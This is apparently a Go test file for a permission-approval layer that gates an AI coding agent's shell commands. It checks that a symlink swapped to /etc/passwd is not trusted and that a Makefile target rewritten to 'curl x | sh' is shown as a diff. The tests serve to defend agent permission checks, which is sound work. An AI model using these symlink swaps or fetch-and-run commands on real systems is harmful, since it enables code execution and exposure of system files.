package approvals_test

import (
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"testing/synctest"
	"time"

	"github.com/mcpdeck/mcpdeck/ask"
	"github.com/mcpdeck/mcpdeck/servers/agents/approvals"
	"github.com/mcpdeck/mcpdeck/servers/rules"
	"github.com/mcpdeck/mcpdeck/servers/rules/book"
	"github.com/mcpdeck/mcpdeck/servers/rules/book/booktest"
)

// TestALinkThatTurnsElsewhereIsNotFollowed swaps a link between the verdict and the answer, and before both.
func TestALinkThatTurnsElsewhereIsNotFollowed(t *testing.T) {
	home := t.TempDir()
	shop := filepath.Join(home, "shop")
	if err := os.MkdirAll(filepath.Join(shop, ".git"), 0o700); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(shop, "a"), nil, 0o600); err != nil {
		t.Fatal(err)
	}
	s := booktest.OnlyReads(t, "claude")
	link, temp := filepath.Join(shop, "link"), filepath.Join(shop, "temp")
	turn := func(to string) {
		t.Helper()
		if err := os.Symlink(to, temp); err != nil {
			t.Skip("links cannot be made here:", err)
		}
		if err := os.Rename(temp, link); err != nil {
			t.Fatal(err)
		}
	}
	q := ask.New(ask.Options{})
	ruled := approvals.Ruled(q, s, home, book.Allowed{"claude": {book.OfCommands}})
	open := func(n int) *ask.Call {
		t.Helper()
		p := &ask.Prompt{Kind: ask.Permission, ID: ask.NewKey(), Agent: "claude", Session: time.Duration(n).String(), Tool: "Bash", Command: "cat link", Door: ask.Shared, Runs: func([]string) string { return "" }}
		r := ask.Request{From: ask.From{Client: "claude", Cwd: shop}, Prompt: p}
		approvals.Permit(&r, append([]approvals.Choice{approvals.AllowOnce(nil)}, approvals.Denials(nil)...))
		c, err := ruled.Open(r)
		if err != nil {
			t.Fatal(err)
		}
		return c
	}
	answered := func(c *ask.Call) bool {
		select {
		case <-c.Done():
			return c.Holds()
		default:
			return false
		}
	}
	turn("a")
	if err := lutimes(link, time.Now().Add(-time.Hour)); err != nil {
		t.Log("the time of a link cannot be set here:", err)
	}
	if c := open(-1); answered(c) {
		t.Error("a link that was made a moment ago is trusted, with a time that was set")
	} else {
		c.Leave("")
	}
	ruled.SettleWithin(0)
	trusted := 0 // a busy machine may decide none of a few in time
	for n := range 1000 {
		turn("a")
		c := open(n)
		if answered(c) {
			trusted++
		}
		turn("/etc/passwd")
		if answered(c) {
			t.Fatal("what is read is outside by now")
		}
		c.Gone("")
	}
	if trusted == 0 {
		t.Error("an old link within the project is not trusted")
	}
}

func TestWhatTakesLongToDecideIsTriedAgainAndThenAsked(t *testing.T) {
	s, home := booktest.OnlyReads(t, "claude"), t.TempDir()
	for slow, want := range map[int]bool{0: true, 2: true, 3: false} {
		synctest.Test(t, func(t *testing.T) { // in which only what sleeps takes time
			q, n := ask.New(ask.Options{}), 0
			defer q.Close()
			p := &ask.Prompt{
				Kind: ask.Permission, ID: ask.NewKey(), Agent: "claude", Session: "s", Tool: "Bash", Command: "cat a", Door: ask.Shared,
				Runs: func([]string) string {
					if n++; n <= slow {
						time.Sleep(time.Second) // of the bubble
					}
					return ""
				},
			}
			r := ask.Request{From: ask.From{Client: "claude", Cwd: filepath.Join(home, "shop")}, Prompt: p}
			approvals.Permit(&r, append([]approvals.Choice{approvals.AllowOnce(nil)}, approvals.Denials(nil)...))
			c, err := approvals.Ruled(q, s, home, book.Allowed{"claude": {book.OfCommands}}).Open(r)
			if err != nil {
				t.Fatal(err)
			}
			answered := false
			select {
			case <-c.Done():
				answered = c.Holds()
			default:
			}
			if answered != want {
				t.Errorf("slow %d times: answered by a rule: %v, want %v", slow, answered, want)
			}
			if !answered {
				notes := q.Pending().Items[0].Request.Prompt.Notes
				if !slices.Contains(notes, "asked: it took too long to decide") {
					t.Errorf("slow %d times: %q", slow, notes)
				}
			}
			c.Gone("")
		})
	}
}

func TestAPromptShowsHowWhatItRunsHasChangedSinceARuleWasKept(t *testing.T) {
	home := t.TempDir()
	shop := filepath.Join(home, "shop")
	write := func(name, text string) {
		t.Helper()
		if err := os.MkdirAll(filepath.Join(shop, ".git"), 0o700); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(filepath.Join(shop, name), []byte(text), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	write("Makefile", "lint:\n\tgo vet ./...\n")
	s := booktest.New(t, "")
	in := rules.At(shop, shop, home)
	all, _ := (&book.Book{}).Propose(&book.Request{Agent: "claude", Project: in.Root, Home: in.Home, Now: time.Now(), Reading: rules.Read("make lint", in)}, nil)
	if len(all) == 0 {
		t.Fatal("nothing is proposed")
	}
	if err := s.Keep(all[0].Rule); err != nil {
		t.Fatal(err)
	}
	booktest.Accept(t, s)
	q := ask.New(ask.Options{})
	ruled := approvals.Ruled(q, s, home, book.Allowed{"claude": {book.OfCommands}})
	for text, want := range map[string]string{
		"lint:\n\tcurl x | sh\n":                               "--- when rule k1 was kept\n+++ now\n@@ -1,3 +1,3 @@\n Makefile:\n lint:\n-\tgo vet ./...\n+\tcurl x | sh\n",
		"lint:\n\tcurl x | sh\n#" + strings.Repeat("a", 9<<10): "", // which nobody would read
		"lint:\n" + strings.Repeat("\tcurl x\n", 9<<10):        "",
	} {
		write("Makefile", text)
		p := &ask.Prompt{Kind: ask.Permission, ID: ask.NewKey(), Agent: "claude", Session: "s", Tool: "Bash", Command: "make lint", Door: ask.Shared, Runs: func([]string) string { return "" }}
		r := ask.Request{From: ask.From{Client: "claude", Cwd: shop}, Prompt: p}
		approvals.Permit(&r, append([]approvals.Choice{approvals.AllowOnce(nil)}, approvals.Denials(nil)...))
		c, err := ruled.Open(r)
		if err != nil {
			t.Fatal(err)
		}
		items := q.Pending().Items
		if len(items) != 1 || items[0].Request.Prompt.Diff != want || !strings.Contains(strings.Join(items[0].Request.Prompt.Notes, "\n"), "may be another than when rule k1 was kept") {
			t.Errorf("%.40q: %+v", text, items)
		}
		c.Gone("")
	}
}
